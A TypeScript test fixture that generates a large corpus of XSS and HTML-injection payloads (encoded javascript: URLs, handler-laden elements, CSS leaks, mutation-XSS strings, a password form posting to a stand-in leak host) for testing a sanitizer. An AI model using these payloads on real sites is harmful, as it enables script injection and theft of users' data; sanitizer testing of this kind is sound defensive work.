/**
 * Attack markup, generated from the classes of the public lists (OWASP's filter evasion sheet, PortSwigger's and
 * DOMPurify's vectors): every element with every handler, URLs of every scheme in every encoding, styles, frames,
 * tracking requests, and markup that changes when it is parsed twice. `EVIL()` in a text runs if any script runs; a URL
 * with `leak` is requested if anything leaks.
 */
const EVIL = 'EVIL()';
const LEAK = 'https://leak.example.com/1';

const ELEMENTS = [
  'a abbr acronym address animate applet area article aside audio b bdi bdo big blink blockquote body br button canvas',
  'caption center cite code col content data datalist dd del details dfn dialog dir div dl dt em embed fieldset figure font',
  'footer form frame frameset h1 head header hr html i iframe image img input ins kbd label legend li link listing main map',
  'mark marquee menu meta meter nav nobr noembed noframes noscript object ol optgroup option output p param picture',
  'plaintext pre progress q rb rp rt ruby s samp script search section select set slot small source span strike strong style',
  'sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xmp xss',
].flatMap((line) => line.split(' '));

const EVENTS = [
  'onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbegin onblur onbounce oncanplay',
  'onclick oncontentvisibilityautostatechange oncopy oncut ondblclick ondrag ondrop onend onerror onfinish onfocus',
  'onfocusin onformdata onhashchange oninput oninvalid onkeydown onload onloadstart onmessage onmousedown onmouseover',
  'onpageshow onpaste onpointerdown onpointerover onpopstate onrepeat onreset onresize onscroll onscrollend onsearch',
  'onsecuritypolicyviolation onselect onstart onsubmit ontoggle ontouchstart ontransitionend onunload onwheel',
].flatMap((line) => line.split(' '));

/** Encodings of a URL that runs a script. */
const URLS = [
  `javascript:${EVIL}`,
  `JaVaScRiPt:${EVIL}`,
  ` &#1; javascript:${EVIL}`,
  `java&#9;script:${EVIL}`,
  `java&#10;script:${EVIL}`,
  `java&NewLine;script:${EVIL}`,
  `javascript&colon;${EVIL}`,
  `&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${EVIL}`,
  `&#x6A;avascript:${EVIL}`,
  `feed:javascript:${EVIL}`,
  `view-source:javascript:${EVIL}`,
  `vbscript:${EVIL}`,
  `livescript:${EVIL}`,
  `mocha:${EVIL}`,
  `data:text/html,<script>${EVIL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5FVklMKCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${EVIL}>`,
  `blob:https://leak.example.com/1`,
  `filesystem:https://leak.example.com/1`,
  '\\\\leak.example.com\\1',
  `//leak.example.com/1`,
  LEAK,
];

const URL_ATTRIBUTES = [
  'a href',
  'area href',
  'audio src',
  'base href',
  'body background',
  'button formaction',
  'embed src',
  'form action',
  'frame src',
  'iframe src',
  'iframe srcdoc',
  'image href',
  'img src',
  'img srcset',
  'img lowsrc',
  'img dynsrc',
  'input src',
  'input formaction',
  'link href',
  'object data',
  'script src',
  'source srcset',
  'svg xlink:href',
  'table background',
  'td background',
  'track src',
  'use href',
  'video poster',
  'video src',
];

const STYLES = [
  `<style>@import "${LEAK}.css"; * { display: none !important }</style>`,
  `<style>body { background: url(${LEAK}) }</style>`,
  `<link rel=stylesheet href="${LEAK}.css"><link rel=prefetch href="${LEAK}"><link rel=preconnect href="${LEAK}">`,
  `<p style="position:fixed;inset:0;background:red;z-index:9999">cover</p>`,
  `<p style="background-image:url(${LEAK})">x</p>`,
  `<p style="behavior:url(x.htc);-moz-binding:url(x.xml#x);width:expression(${EVIL})">x</p>`,
  `<div class="page-cover" id="content" hidden>x</div><font size=99 color=red>x</font><marquee>x</marquee>`,
  `<svg><style>@font-face{font-family:x;src:url(${LEAK})}</style></svg>`,
];

const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${EVIL}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${EVIL}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${EVIL}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${EVIL}>`,
  `<svg><desc><title><style></title></desc><img src=x onerror=${EVIL}></style></svg>`,
  `<textarea><img title="</textarea><img src=x onerror=${EVIL}>">`,
  `<xmp><img title="</xmp><img src=x onerror=${EVIL}>">`,
  `<select><template><script>${EVIL}</script></template></select>`,
  `<table><caption><svg><title><style></caption><img src=x onerror=${EVIL}>`,
  `<template><s><template><s><img src=x onerror=${EVIL}>@</s></template></s></template>`,
  `<!--><img src=x onerror=${EVIL}>--><![CDATA[<img src=x onerror=${EVIL}>]]><?xml <img src=x onerror=${EVIL}>?>`,
  `<<script>script>${EVIL}<</script>/script>`,
  `<scr<script>ipt>${EVIL}</scr</script>ipt>`,
  `<img src=x onerror\x00=${EVIL}><img/src=x/onerror=${EVIL}><img """><script>${EVIL}</script>">`,
  `<iframe srcdoc="<script>parent.${EVIL}</script>"></iframe><iframe src="about:blank" onload=${EVIL}></iframe>`,
  `<object data="data:text/html,<script>${EVIL}</script>"></object><embed src="data:image/svg+xml,<svg onload=${EVIL}>">`,
  `<meta http-equiv=refresh content="0;url=${LEAK}"><meta http-equiv=set-cookie content="account.token=x">`,
  `<base href="https://leak.example.com/"><a href="x">x</a>`,
  `<form action="${LEAK}"><input name=password autofocus onfocus=${EVIL}><input type=submit></form>`,
  `<b id=root name=cookie>x</b><img name=getElementById><a id=location></a><form id=document><input name=body></form>`,
  `<svg><animate attributeName=href values="javascript:${EVIL}"/><a href=1><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${EVIL}>#x"></use><script href="data:,${EVIL}"/></svg>`,
  `<p><a href="https://example.com" target=_self rel=opener ping="${LEAK}" onclick=${EVIL}>x</a></p>`,
  `<img src="/online-api/v1/accounts/api/player/logout?leak"><img src="//leak.example.com/1.gif" loading=eager>`,
];

/** Texts of at most `max` characters that together contain all attacks. */
export function attacks(max: number): readonly string[] {
  const all = [
    ...ELEMENTS.flatMap((element) =>
      EVENTS.map((event) => `<${element} ${event}=${EVIL} src=x open autofocus tabindex=1>x</${element}>`),
    ),
    ...URL_ATTRIBUTES.flatMap((place) => URLS.map((url) => `<${place}="${url}">x</${place.split(' ')[0]}>`)),
    ...STYLES,
    ...MUTATIONS,
  ];
  const texts = [''];
  for (const one of all) {
    const last = texts.at(-1) ?? '';
    if (last.length + one.length > max) texts.push(one);
    else texts[texts.length - 1] = last + one;
  }
  return texts;
}
